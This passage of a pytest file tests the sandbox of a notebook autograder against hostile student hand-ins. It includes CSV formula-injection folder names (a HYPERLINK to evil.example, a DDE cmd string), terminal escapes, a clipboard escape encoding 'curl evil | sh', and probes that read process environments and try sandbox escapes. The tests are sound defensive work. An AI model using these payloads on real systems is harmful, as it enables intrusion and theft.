    os.fsdecode(b'=HYPERLINK("evil.example","grades")'): "is not a plain name",
    os.fsdecode(b"@SUM(1+1)*cmd|x!A0"): "is not a plain name",
    os.fsdecode(b"ada\x1b]0;pwned\x07\x1b[2J"): "is not a plain name",
    os.fsdecode(b"bad\xff\xfename"): "is not valid UTF-8",
}


def _make_name_attacks(course) -> None:
    """Copies of the honest hand-in under folder names that must act nowhere."""
    honest = course.submitted / "honest" / "01_geometry" / "geometry.ipynb"
    for name in NAME_ATTACKS:
        (course.submitted / name / "01_geometry").mkdir(parents=True)
        (course.submitted / name / "01_geometry" / "geometry.ipynb").write_bytes(honest.read_bytes())


#: The group (``xdist_group``) of the tests on the one hostile batch: graded once, on a worker of its own, while the
#: other worker runs the rest of this file (``conftest.py``).
HOSTILE_BATCH = "test_sandbox-hostile_batch"


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    course = copy_course(fixture_course(), tmp_path_factory.mktemp("hostile"))
    build_example_class(course, FIXTURES)
    build_example_class(course, FORGED_POINTS_CLASS)
    build_example_class(course, SECOND_CALL_AND_DIGEST_CLASS)
    build_example_class(course, FORGED_SECOND_CALL_CLASS)
    file_attacks = _make_file_attacks(course)
    _make_name_attacks(course)
    secret = load_or_create_secret(course.root)
    runpy.run_path(str(FORGED_POINTS_CLASS / "_resubmission.py"))["write_second_hand_in"](course, secret)  # needs the secret
    before = tree_state(course.root, exclude=GRADER_OUTPUT)
    machine_before = _machine_state()
    saved = os.environ.get("PERCEPTRON_TA_TOKEN")
    os.environ["PERCEPTRON_TA_TOKEN"] = TA_TOKEN
    try:
        graded = list(grade(course, progress=False, jobs=1))
        outcomes = {o.student: o for o in graded}
    finally:
        if saved is None:
            os.environ.pop("PERCEPTRON_TA_TOKEN")
        else:
            os.environ["PERCEPTRON_TA_TOKEN"] = saved
    yield {"course": course, "outcomes": outcomes, "before": before,
           "by_assignment": {(o.student, o.assignment): o for o in graded}, "file_attacks": file_attacks,
           "machine_before": machine_before, "machine_after": _machine_state(),
           "daemons_left": _wait_until_gone("perceptron-sandbox-daemon-marker"), "sandboxes_left": sandboxes_left()}
    # A folder nested 1,200 levels deep is more than Python 3.11's rmtree (pytest's clean-up) can remove.
    subprocess.run(["rm", "-rf", "--", str(course.root / "submitted" / "deep_submission_folder")], check=True)


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_honest_student_keeps_full_marks_and_attacks_are_refused(hostile_batch):
    outcomes = hostile_batch["outcomes"]
    assert outcomes["honest"].status == "graded" and outcomes["honest"].score == outcomes["honest"].max_score == 8
    with hostile_batch["course"].grades_csv.open(newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    for student, reason in hostile_batch["file_attacks"].items():
        assert rows[student]["status"] == "failed" and rows[student]["score"] == "0", student
        assert reason in rows[student]["reason"], (student, rows[student]["reason"])


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_every_escape_is_blocked(hostile_batch):
    page = html.unescape((hostile_batch["course"].feedback / "escaper" / "01_geometry" / "geometry.html").read_text(encoding="utf-8"))
    attempts = ["unmount /usr", "remount / read-write", "mount a tmpfs", "chroot", "a new user namespace", "ptrace",
                "find other checkouts", "read the environment", "connect to a host socket", "fill the scratch",
                "write a huge file", "import the reference", "import sklearn's perceptron"]
    for attempt in attempts:
        assert f"BLOCKED {attempt}" in page and f"LEAKED {attempt}" not in page, attempt
    assert "ENVIRONMENT" in page


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_leaves_no_process_and_no_secret(hostile_batch):
    assert hostile_batch["daemons_left"] == [] and hostile_batch["sandboxes_left"] == []
    course = hostile_batch["course"]
    for folder in GRADER_OUTPUT:
        for path in [course.root / folder, *(course.root / folder).rglob("*")] if (course.root / folder).exists() else []:
            if path.is_file():
                assert TA_TOKEN.encode() not in path.read_bytes(), path


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_changes_nothing_outside_the_graded_output(hostile_batch):
    course = hostile_batch["course"]
    assert tree_state(course.root, exclude=GRADER_OUTPUT) == hostile_batch["before"]
    for folder in ("autograded", "feedback"):
        graded = {path.relative_to(course.root / folder).parts[0] for path in (course.root / folder).rglob("*")}
        assert graded <= {"honest", "daemon", "escaper", "fork_bomb", "huge_message", *ESCAPES_AND_RESOURCE_ATTACKS, *TA_SIDE_ATTACKS,
                          *REVIEW_EVASIONS, *HOST_ROOT_ATTACKS, "html_nesting", *FORGED_POINTS,
                          *SECOND_CALL_AND_DIGEST_ATTACKS, *(student for student, _ in FORGED_SECOND_CALLS), "honest_in_the_same_batch"}, graded
        for path in (course.root / folder).rglob("*"):
            assert not path.is_symlink(), path


#: Recipes of the fifth attack round: wrong code that attacks the machine through what a kernel's user (the
#: grader's, underneath) may do without capabilities. Graded before ``honest``, which they target.
HOST_ROOT_ATTACKS = ("ab_core_pattern_escape", "ab_core_pattern_stealth", "ab_devnull")
ROUND5_LOOT = Path("/tmp/perceptron-round5-loot")


def _machine_state() -> dict:
    """What the fifth round's attacks would change on the grading machine."""
    return {"core_pattern": Path("/proc/sys/kernel/core_pattern").read_text(),
            "device modes": {path: os.stat(path).st_mode for path in ("/dev/null", "/dev/urandom", "/dev/full")},
            "loot": ROUND5_LOOT.exists()}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_attacks_as_the_host_s_root_change_nothing_on_the_machine_and_gain_nothing(hostile_batch):
    assert hostile_batch["machine_after"] == hostile_batch["machine_before"]
    assert not hostile_batch["machine_after"]["loot"]
    outcomes = hostile_batch["outcomes"]
    for student in HOST_ROOT_ATTACKS:
        assert outcomes[student].status == "graded" and outcomes[student].score == 0, (student, outcomes[student].reason)
    honest = outcomes["honest"]  # graded after both, in the same zygote: its kernel started and its hand-in is intact
    assert honest.status == "graded" and honest.score == honest.max_score, honest.reason


#: Recipes of the first attack round, and the cells each may keep (their code is wrong or calls the reference).
ESCAPES_AND_RESOURCE_ATTACKS = {
    "aa_config_clobber": set(), "symlink_leak": set(), "zz_link_loop": set(), "zz_fifo_hang": set(),
    "resource_sparse_file": set(), "resource_tmpfs_memory": set(), "resource_shadow_module": set(),
    "environment_leak": set(), "output_flood_memory": set(), "reference_import": set(),
    "reference_train": {"test_perceptron_step"},
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_escapes_and_resource_attacks_gain_nothing_and_stop_nothing(hostile_batch):
    outcomes = hostile_batch["outcomes"]
    for student, kept in ESCAPES_AND_RESOURCE_ATTACKS.items():
        outcome = outcomes[student]
        assert outcome.status == "graded", (student, outcome.reason)
        earned = {cell for cell, score in outcome.cell_scores.items() if score > 0}
        assert earned == kept, (student, outcome.cell_scores)
    refused = outcomes["many_cells_slow"]
    assert refused.status == "failed" and "cells; a submission may have at most 500" in refused.reason
    import_page = (hostile_batch["course"].feedback / "reference_import" / "01_geometry" / "geometry.html").read_text()
    assert "not available while grading: implement it yourself" in html.unescape(import_page)


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_a_fork_bomb_is_capped(hostile_batch):
    page = html.unescape((hostile_batch["course"].feedback / "fork_bomb" / "01_geometry" / "geometry.html").read_text())
    assert "BLOCKED fork bomb" in page and "LEAKED fork bomb" not in page
    assert hostile_batch["outcomes"]["fork_bomb"].score == 8


def test_other_pythons_packages_are_hidden(tmp_path):
    from course_grader.trusted.running.sandbox import _python_roots, foreign_site_packages

    hidden = foreign_site_packages(_python_roots())
    probe = ("import os, sys\n"
             f"for folder in {[str(p) for p in hidden]!r}:\n"
             "    assert os.listdir(folder) == [], folder\n"
             "    assert folder not in sys.path\n"
             "print('HIDDEN', len(" + repr([str(p) for p in hidden]) + "))")
    result = run_probe(probe, tmp_path)
    assert result.returncode == 0 and f"HIDDEN {len(hidden)}" in result.stdout, result.stderr


def test_the_grader_refuses_messages_too_big_for_its_memory():
    # Attack round 9: the cap was set on the manager's context only (its control socket); the client that reads
    # shell and IOPub makes a context of its own, and took a 1.5 GiB frame whole.
    import zmq

    manager = sandbox.SandboxKernelManager()
    manager._socket_urls = lambda: {channel: "ipc:///nonexistent" for channel in sandbox.CHANNELS}
    client = manager.client()
    client.start_channels(hb=False)  # (the heartbeat's thread races the teardown of a client with no kernel)
    try:
        sockets = {"shell": client.shell_channel.socket, "iopub": client.iopub_channel.socket,
                   "control (the manager's)": manager.context.socket(zmq.DEALER)}
        assert {name: socket.getsockopt(zmq.MAXMSGSIZE) for name, socket in sockets.items()} == dict.fromkeys(
            sockets, sandbox.MAX_MESSAGE_BYTES)
        sockets["control (the manager's)"].close()
    finally:
        client.stop_channels()
        manager.context.destroy()


def test_a_restarted_kernel_s_endpoints_never_name_a_descriptor_the_kernel_before_it_had(tmp_path):
    # A kernel's endpoints are /proc/<grader>/fd/<n>. The numbers of a dead kernel's descriptors went to the
    # restarted kernel's, and the sockets of the dead kernel that ZMQ reconnected (its client; the control socket,
    # lingering with an interrupt sent to the dead kernel) reached the new kernel: it then sometimes left a cell
    # unanswered until its time limit. Until the manager's last kernel is shut down, no number is given again.
    from jupyter_core.utils import run_sync

    manager = sandbox.SandboxKernelManager()
    manager.connection_file = str(tmp_path / "kernel.json")
    for port, channel in enumerate(sandbox.CHANNELS, 1):
        setattr(manager, f"{channel}_port", port)
    manager._still_running = lambda: True
    folder, listeners = tmp_path / sandbox.SOCKETS_FOLDER, []

    def start_a_kernel() -> set[str]:
        """Bind a socket per channel where the kernel binds them; the endpoints the grader then connects to."""
        folder.mkdir(exist_ok=True)
        folder.chmod(0o700)  # the manager closed it once the sockets were bound
        for port in range(1, len(sandbox.CHANNELS) + 1):
            (folder / f"kernel-{port}").unlink(missing_ok=True)
            listeners.append(socket.socket(socket.AF_UNIX))
            listeners[-1].bind(str(folder / f"kernel-{port}"))
        return set(manager._socket_urls().values())

    try:
        first = start_a_kernel()
        run_sync(manager._async_cleanup_resources)(restart=True)
        second = start_a_kernel()
        assert len(first) == len(second) == len(sandbox.CHANNELS) and first.isdisjoint(second)
        run_sync(manager._async_cleanup_resources)(restart=False)  # the last kernel: every descriptor is closed
        for url in first | second:
            with pytest.raises(OSError):
                os.fstat(int(url.rsplit("/", 1)[1]))
    finally:
        for listener in listeners:
            listener.close()


#: Recipes of the second attack round: cells each must keep (their own correct code) and, for the
#: refused ones, what grades.csv must say.
TA_SIDE_ATTACKS = {
    "ta_environment": set(), "pid1_memory": set(), "terminal_escape": set(), "deep_tree": set(),
    "markdown_slow_feedback": set(), "outside_writes": {"test_augment", "test_predict", "test_signed_distance",
                                                        "test_set_margin"},
    # its points are put back by the intake (round 13, finding 5): its correct code is graded
    "report_points_injection": {"test_augment", "test_predict", "test_signed_distance", "test_set_margin"},
}
TA_SIDE_REFUSED = {
    "deep_submission_folder": "nested deeper than 8 levels",
    "markdown_slow_feedback": "text cells are too long",
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_attacks_on_the_ta_s_side_gain_nothing_and_stop_nothing(hostile_batch):
    outcomes = hostile_batch["outcomes"]
    for student, kept in TA_SIDE_ATTACKS.items():
        if student in TA_SIDE_REFUSED:
            continue
        outcome = outcomes[student]
        assert outcome.status == "graded", (student, outcome.reason)
        assert {cell for cell, score in outcome.cell_scores.items() if score > 0} == kept, (student, outcome.cell_scores)
    for student, reason in TA_SIDE_REFUSED.items():
        outcome = outcomes[student]
        assert outcome.status == "failed" and reason in outcome.reason, (student, outcome.reason)
        assert "<" not in outcome.reason and "\n" not in outcome.reason
    assert "the test cell test_augment had its nbgrader settings changed (points)" in outcomes["report_points_injection"].reason
    assert outcomes["huge_message"].status == "graded"
    report = (hostile_batch["course"].reports / "report.md").read_text(encoding="utf-8")
    assert "<img" not in report and "<!--" not in report and "<b>" not in report  # quoted as inert text
    graded = nbformat.read(hostile_batch["course"].root / "autograded" / "outside_writes" / "01_geometry" / "geometry.ipynb",
                           as_version=4)
    printed = "".join(str(output.get("text", "")) + str(output.get("evalue", ""))
                      for cell in graded.cells for output in cell.get("outputs", []))
    assert "OUTSIDE" not in printed and "No space left on device" in printed, printed[:500]


def test_a_kernel_cannot_write_to_the_graders_terminal_or_read_its_environment(tmp_path):
    view = sandbox.build_student_view(tmp_path / "view", rules("01_geometry"))
    probe = ("import os, sys\n"
             "sys.stderr.write('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 FAKE ALL PASSED'); sys.stderr.flush()\n"
             "print('ENVIRON', open('/proc/1/environ').read())\n")
    command = sandbox.detached(sandbox.bubblewrap_command(sandbox.launcher_command(ISOLATION, probe_code=probe), view, rules("01_geometry")), [])
    result = subprocess.run(command, capture_output=True, text=True, timeout=120,
                            env={**os.environ, "PERCEPTRON_TA_TOKEN": TA_TOKEN})
    assert result.returncode == 0 and result.stdout == "" and result.stderr == ""
    inside = run_probe("print(open('/proc/1/environ').read()); print(open('/proc/1/cmdline').read())", tmp_path,
                       env={**os.environ, "PERCEPTRON_TA_TOKEN": TA_TOKEN})
    assert inside.returncode == 0 and TA_TOKEN not in inside.stdout and "bwrap" not in inside.stdout
    assert "course_grader.in_sandbox.zygote" in inside.stdout  # it is the zygote's fork, pid 1 of its own


#: Recipes of the third attack round (and the fourth's typing_eval): correct code, so they keep every point, and must be flagged.
REVIEW_EVASIONS = {
    "third_evasions": ["numpy.testing._private.utils.os.system", "getattr passed as a value", "operator.attrgetter"],
    "autocall_flood": ["cell NOT analysed: 120 shell, magic, help or autocall lines"],
    # fourth round: Python held in string annotations, which typing.get_type_hints evaluates
    "typing_eval": ["a string annotation that is code, not a type name", "code in a string", "typing.get_type_hints"],
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_review_evasions_are_flagged_and_run_no_program(hostile_batch):
    outcomes = hostile_batch["outcomes"]
    assert outcomes["honest"].flags == [] and outcomes["honest"].unanalysed == []
    for student, expected in REVIEW_EVASIONS.items():
        outcome = outcomes[student]
        assert outcome.status == "graded" and outcome.score == 8, (student, outcome.reason, outcome.cell_scores)
        constructs = [flag.construct for flag in outcome.flags]
        for construct in expected:
            assert any(c.startswith(construct) for c in constructs), (student, constructs)
    page = html.unescape((hostile_batch["course"].feedback / "third_evasions" / "01_geometry" / "geometry.html").read_text())
    for way in ("list alias", "getattr value", "identity"):
        assert f"BLOCKED run a program through the {way}" in page and f"LEAKED run a program through the {way}" not in page


#: Hand-ins of the twelfth round and the flags each must raise (grader/tests/fixtures/attacks_forged_points/README.md).
FORGED_POINTS = {
    "resubmit_table": [],
    "numbers_as_text": [],
    "hidden_mutation": ["assignment to json.dumps (a module attribute)"],
    "held_module_exec": ["sys.settrace", "sys.setprofile", "sys.modules"],
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_forged_points_are_gone_and_evasions_are_flagged(hostile_batch):
    outcomes, course = hostile_batch["outcomes"], hostile_batch["course"]
    for student, expected in FORGED_POINTS.items():
        outcome = outcomes[student]
        assert outcome.status == "graded", (student, outcome.reason)
        constructs = [flag.construct for flag in outcome.flags]
        for construct in expected:
            assert any(c.startswith(construct) for c in constructs), (student, constructs)
    # item 1: the table of the first hand-in's feedback answers nothing once the second hand-in draws its own cases
    resubmitted = outcomes["resubmit_table"].cell_scores
    assert resubmitted["test_predict"] == 0 and all(resubmitted[cell] > 0 for cell in ("test_augment", "test_signed_distance",
                                                                                      "test_set_margin")), resubmitted
    # item 3: numbers returned as text score nothing in 04
    tested = ("test_radius", "test_proof_terms", "test_proof_squeeze", "test_mistake_bound")
    as_text = outcomes["numbers_as_text"].cell_scores
    assert {cell: as_text[cell] for cell in tested} == dict.fromkeys(tested, 0), as_text
    page = html.unescape((course.feedback / "numbers_as_text" / "04_convergence" / "convergence.html").read_text(encoding="utf-8"))
    assert "not text" in page
    # item 2: the in-place change hidden from the harness's report is seen in the second answer
    assert outcomes["hidden_mutation"].cell_scores["test_perceptron_step"] == 0
    page = html.unescape((course.feedback / "hidden_mutation" / "02_algorithm" / "algorithm.html").read_text(encoding="utf-8"))
    assert SECOND_CALL in page  # the second call, made on the same arrays, sees it
    # item 6: correct code, flagged, its points kept
    assert outcomes["held_module_exec"].score == 8
    assert outcomes["honest"].score == outcomes["honest"].max_score == 8


#: Hand-ins of the thirteenth round and the flags each must raise (grader/tests/fixtures/attacks_second_call_and_digest/README.md).
SECOND_CALL_AND_DIGEST_ATTACKS = {
    "library_result_mutation": ["access to .modules", "assignment to .dumps of an object the notebook did not create"],
    "library_result_exec": ["access to .sys", "access to .exec", "access to .settrace"],
    "list_argument_sorted_in_place": [],
    "solution_cell_marked_graded": [],
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_second_call_and_digest_attacks_are_graded_as_their_code_deserves_and_flagged(hostile_batch):
    outcomes, course = hostile_batch["outcomes"], hostile_batch["course"]
    for student, expected in SECOND_CALL_AND_DIGEST_ATTACKS.items():
        outcome = outcomes[student]
        assert outcome.status == "graded", (student, outcome.reason)
        constructs = [flag.construct for flag in outcome.flags]
        for construct in expected:
            assert any(c.startswith(construct) for c in constructs), (student, constructs)
    # finding 5: a solution cell marked graded is put back as released: the correct hand-in keeps every point
    marked = outcomes["solution_cell_marked_graded"]
    assert marked.score == marked.max_score and all(score > 0 for score in marked.cell_scores.values()), marked.cell_scores
    assert "perceptron_step (perceptron_step) had its nbgrader settings changed (grade, points)" in marked.reason
    # finding 4: caps.sort() reorders the caller's list: that part fails, the others keep their points
    sorted_caps = outcomes["list_argument_sorted_in_place"].cell_scores
    assert sorted_caps["test_choose_epoch_cap"] == 0 and all(
        score > 0 for cell, score in sorted_caps.items() if cell != "test_choose_epoch_cap"), sorted_caps
    page = html.unescape((course.feedback / "list_argument_sorted_in_place" / "02_algorithm" / "algorithm.html")
                         .read_text(encoding="utf-8"))
    assert "changed its argument caps in place" in page
    # finding 1: the forged report of w and the replayed second answer do not save the in-place change
    mutation = outcomes["library_result_mutation"].cell_scores
    assert mutation["test_perceptron_step"] == 0 and all(
        score > 0 for cell, score in mutation.items() if cell != "test_perceptron_step"), mutation
    page = html.unescape((course.feedback / "library_result_mutation" / "02_algorithm" / "algorithm.html").read_text(encoding="utf-8"))
    assert SECOND_CALL in page and "changed its argument" not in page  # judged on the second answer; the report lied
    # finding 2: correct code is not penalised by a flag (the hook is for a TA to read)
    assert outcomes["library_result_exec"].score == outcomes["library_result_exec"].max_score
    assert outcomes["honest"].score == outcomes["honest"].max_score == 8


#: Round 14's forgers, the parts each hides an in-place change in, and its notebooks.
FORGED_SECOND_CALLS = {
    ("forge_same_call_again", "01_geometry"): ("test_augment", "geometry"),
    ("forge_same_call_again", "02_algorithm"): ("test_perceptron_step", "algorithm"),
    ("forge_copy_after_first_call", "02_algorithm"): ("test_perceptron_step", "algorithm"),
}


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_forged_second_answers_lose_the_part_and_honest_work_keeps_its_points(hostile_batch):
    course, graded = hostile_batch["course"], hostile_batch["by_assignment"]
    for (student, assignment), (forged, notebook) in FORGED_SECOND_CALLS.items():
        outcome = graded[(student, assignment)]
        assert outcome.status == "graded", (student, outcome.reason)
        assert outcome.cell_scores[forged] == 0 and all(
            score > 0 for cell, score in outcome.cell_scores.items() if cell != forged), (student, outcome.cell_scores)
        constructs = [flag.construct for flag in outcome.flags]
        assert any(c.startswith("assignment to .dumps") for c in constructs), (student, constructs)
        page = html.unescape((course.feedback / student / assignment / f"{notebook}.html").read_text(encoding="utf-8"))
        assert SECOND_CALL in page and "changed its argument" not in page, student  # the second answer, not the report
    for assignment in ("01_geometry", "02_algorithm"):
        honest = graded[("honest_in_the_same_batch", assignment)]
        assert honest.status == "graded" and honest.score == honest.max_score > 0 and honest.flags == [], honest.cell_scores


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_deep_html_is_shown_as_text_and_a_code_bomb_is_refused(hostile_batch):
    outcomes = hostile_batch["outcomes"]
    nested = outcomes["html_nesting"]
    assert (nested.status, nested.score) == ("graded", 8), nested.reason  # its code is correct: its HTML costs it nothing
    page = (hostile_batch["course"].feedback / "html_nesting" / "01_geometry" / "geometry.html").read_text(encoding="utf-8")
    assert "HTML nested 2,000 levels deep (more than 256), shown as text" in page and feedback.html_depth(page) < 100
    bomb = outcomes["code_parse_bomb"]
    assert bomb.status == "failed" and "its code cells are too long (at most 20,000 characters each" in bomb.reason


@pytest.mark.slow
@pytest.mark.xdist_group(HOSTILE_BATCH)
def test_hostile_batch_folder_names_act_nowhere_and_stop_nothing(hostile_batch, capsys):
    from course_grader.trusted.cli import _print_summary
    from course_grader.trusted.course.files import readable_name

    course, outcomes = hostile_batch["course"], hostile_batch["outcomes"]
    for name, reason in NAME_ATTACKS.items():
        outcome = outcomes[readable_name(name)]
        assert outcome.status == "failed" and reason in outcome.reason, (name, outcome.reason)
    assert "bad\\xff\\xfename" in outcomes  # shown with visible escapes, in every file
    for path in (course.grades_csv, course.root / "grades_by_student.csv"):
        cells = [cell for row in _csv_cells(path) for cell in row]
        formulas = [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
                    and not re.fullmatch(r"[+-]?[0-9.]+", cell)]
        assert formulas == [], (path.name, formulas)
        assert any(cell.startswith("'=HYPERLINK") for cell in cells) and "bad\\xff\\xfename" in cells, path.name
    for report in ("report.md", "report.html"):
        text = (course.reports / report).read_text(encoding="utf-8")
        assert "\x1b" not in text and "\x07" not in text and "xfename" in text, report  # shown, with its escapes
    _print_summary(course, list(outcomes.values()), 1.0)
    printed = capsys.readouterr()
    assert "\x1b" not in printed.out + printed.err and "\x07" not in printed.out + printed.err
    assert "ada\\x1b]0;pwned\\x07" in printed.out
    # A later grading (here of one student) writes every file for the class again.
    before = course.grades_csv.read_text(encoding="utf-8")
    [again] = grade(course, students=["honest"], progress=False, jobs=1, force=True)  # unchanged: skipped unless forced
    assert again.status == "graded" and again.score == 8
    assert course.grades_csv.read_text(encoding="utf-8") == before
    assert "xfename" in (course.reports / "report.md").read_text(encoding="utf-8")


# ---------------------------------------------------------------------------- the warm pool: kernels share nothing

#: The first submission leaves everything it can behind, and changes what it can of what it was given.
LEAVES_BEHIND = """
    import ctypes, json, os, socket, sys, time
    import numpy
    numpy.sum = lambda *args, **kwargs: 42            # the warm modules, in its own memory
    sys.modules["planted_module"] = type(sys)("planted_module")
    os.environ["PLANTED"] = "1"
    open("/tmp/planted", "w").write("first")
    open("/dev/shm/planted", "w").write("first")
    written = {}
    for path in ("/dev/planted", "/run/planted", "/run/kernel/planted", "/run/kernels/planted", "/run/views/planted",
                 "/opt/perceptron-course/planted", "/run/kernel/sockets/planted"):
        try:
            open(path, "w").write("first")
            written[path] = "wrote"
        except OSError as error:
            written[path] = error.errno
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0perceptron-planted")             # an abstract socket: it lives in a network namespace
    listener.listen()
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0x5eed, 4096, 0o1666)        # System V shared memory: it lives in an IPC namespace
    try:
        socket.sethostname("planted")                  # refused: no capability (its UTS namespace is its own anyway)
    except OSError:
        pass
    if os.fork() == 0:                                 # a process that outlives the probe, if it can
        os.setsid()
        time.sleep(600)
        os._exit(0)
    print(json.dumps({"written": written, "segment": segment, "pid": os.getpid()}))
"""

#: The next submission on the same worker looks for every trace of the first.
LOOKS_FOR_TRACES = """
    import ctypes, json, os, socket, sys
    import numpy
    reached = "no"
    client = socket.socket(socket.AF_UNIX)
    try:
        client.connect("\\0perceptron-planted")
        reached = "yes"
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    print(json.dumps({
        "numpy.sum": int(numpy.sum([1, 2])), "planted_module": "planted_module" in sys.modules,
        "environ": os.environ.get("PLANTED"), "tmp": os.listdir("/tmp"), "shm": os.listdir("/dev/shm"),
        "dev": "planted" in os.listdir("/dev"), "run": sorted(os.listdir("/run/kernel")),
        "processes": sorted(int(name) for name in os.listdir("/proc") if name.isdigit()),
        "abstract socket": reached, "segment": libc.shmget(0x5eed, 0, 0), "hostname": socket.gethostname(),
        "sysvipc": open("/proc/sysvipc/shm").read().splitlines()[1:],
    }))
"""


def test_two_submissions_graded_by_the_same_zygote_share_nothing(tmp_path):
    zygote = kernel_pool.zygote_for_this_thread()
    first = probe_json(LEAVES_BEHIND, tmp_path)
    assert kernel_pool.zygote_for_this_thread() is zygote, "both submissions must come from the same zygote"
    assert first["pid"] == 1 and first["segment"] >= 0  # it could make the segment (in its own namespace)
    writable = [path for path, outcome in first["written"].items() if not isinstance(outcome, int)]
    assert writable == ["/run/kernel/sockets/planted"], first["written"]  # its own sockets folder, and nothing shared
    second = probe_json(LOOKS_FOR_TRACES, tmp_path)
    assert kernel_pool.zygote_for_this_thread() is zygote
    # the scratch starts empty, but for the way to what the sandbox binds under /tmp (a checkout's .venv there)
    bound_under_tmp = sorted({Path(root).parts[2] for root in map(str, sandbox._python_roots()) if root.startswith("/tmp/")})
    assert second == {"numpy.sum": 3, "planted_module": False, "environ": None, "tmp": bound_under_tmp, "shm": [], "dev": False,
                      "run": ["connection.json", "sockets"], "processes": [1], "abstract socket": "no",
                      "segment": -1, "hostname": second["hostname"], "sysvipc": []}
    assert second["hostname"] != "planted"
    assert _wait_until_gone("perceptron-planted") == []


RANDOM_STATE = """
    import json, os, random, sys, tempfile
    import numpy
    print(json.dumps({"random": random.random(), "numpy": float(numpy.random.random()), "urandom": os.urandom(8).hex(),
                      "temporary name": next(tempfile._get_candidate_names()), "hash": hash("perceptron"),
                      "hash seed": os.environ.get("PYTHONHASHSEED"), "randomized": sys.flags.hash_randomization}))
"""


def test_kernels_of_one_zygote_draw_their_own_randomness_and_share_only_what_a_fork_cannot_renew(tmp_path, monkeypatch):
    # Attack round 12 (item 7). What Python lets a fork renew is renewed; the string-hash key is not (it is drawn once,
    # at interpreter start, and cached in every string and dict): the zygote's, drawn at random since the sandbox's
    # environment is cleared, even when the grader's has PYTHONHASHSEED=0 (as this test run does).
    monkeypatch.setenv("PYTHONHASHSEED", "0")
    zygote = kernel_pool.zygote_for_this_thread()
    first, second = probe_json(RANDOM_STATE, tmp_path), probe_json(RANDOM_STATE, tmp_path)
    assert kernel_pool.zygote_for_this_thread() is zygote
    for renewed in ("random", "numpy", "urandom", "temporary name"):
        assert first[renewed] != second[renewed], renewed
    assert first["hash seed"] is None and first["randomized"] == 1
    assert first["hash"] == second["hash"]  # shared by the kernels of one zygote: see zygote._reseed_warm_random_state
    with_seed_zero = subprocess.run([sys.executable, "-c", "print(hash('perceptron'))"], capture_output=True, text=True,
                                    env={**os.environ, "PYTHONHASHSEED": "0"}, check=True)
    assert int(with_seed_zero.stdout) != first["hash"]


def test_the_zygote_never_runs_student_code_and_keeps_its_warm_state(tmp_path):
    zygote = kernel_pool.zygote_for_this_thread()
    seen = probe_json("""
        import json, os, signal
        reached = {}
        for name, attempt in {"signal every process": lambda: os.kill(-1, signal.SIGKILL),
                              "signal the parent": lambda: os.kill(os.getppid() or 1, 0)}.items():
            try:
                attempt()
                reached[name] = "sent"
            except OSError as error:
                reached[name] = error.errno
        print(json.dumps({"ppid": os.getppid(), "reached": reached, "self": os.getpid()}))
    """, tmp_path)
    assert seen["ppid"] == 0 and seen["self"] == 1  # its parent (the keeper) and the zygote are outside its PID namespace
    assert zygote.alive() and kernel_pool.zygote_for_this_thread() is zygote
    again = probe_json("import json, sys; print(json.dumps(sorted(m for m in ('numpy', 'ipykernel.kernelapp') "
                       "if m in sys.modules)))", tmp_path)
    assert again == ["ipykernel.kernelapp", "numpy"]  # warm: imported by the zygote, before any student code


#: What a kernel's user (the grader's, underneath: root when the grader is root) could change on the machine
#: without any capability. Each attempt changes nothing if it is allowed (opened for writing and closed
#: unwritten, a mode set to the mode it has), so a failing test leaves the machine as it was.
MACHINE_CHANGES = """
    import ctypes, json, os, stat
    libc = ctypes.CDLL(None, use_errno=True)
    results = {}
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_ratio", "/proc/sysrq-trigger",
                 "/proc/sys/user/max_user_namespaces", "/proc/self/oom_score_adj"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            results[path] = "opened for writing"
        except OSError as error:
            results[path] = error.errno
    for path in ("/dev/null", "/dev/urandom", "/dev/pts/ptmx", "/dev/pts", "/dev/full"):
        if os.path.exists(path):
            try:
                os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
                results["chmod " + path] = "allowed"
            except OSError as error:
                results["chmod " + path] = error.errno
    results["clone a user namespace"] = [libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0), ctypes.get_errno()]
    results["clone3"] = [libc.syscall(435, 0, 0), ctypes.get_errno()]
    # what can be written at each mount point (the mount on top: one covered by another is out of reach)
    targets = {line.split()[4] for line in open("/proc/self/mountinfo")}
    results["writable mounts"] = sorted(target for target in targets if not os.statvfs(target).f_flag & os.ST_RDONLY)
    print(json.dumps(results))
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="raw system call numbers are those of x86_64")
def test_a_kernel_cannot_change_the_machine_or_what_the_next_kernel_gets(tmp_path):
    results = probe_json(MACHINE_CHANGES, tmp_path)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_ratio", "/proc/sysrq-trigger",
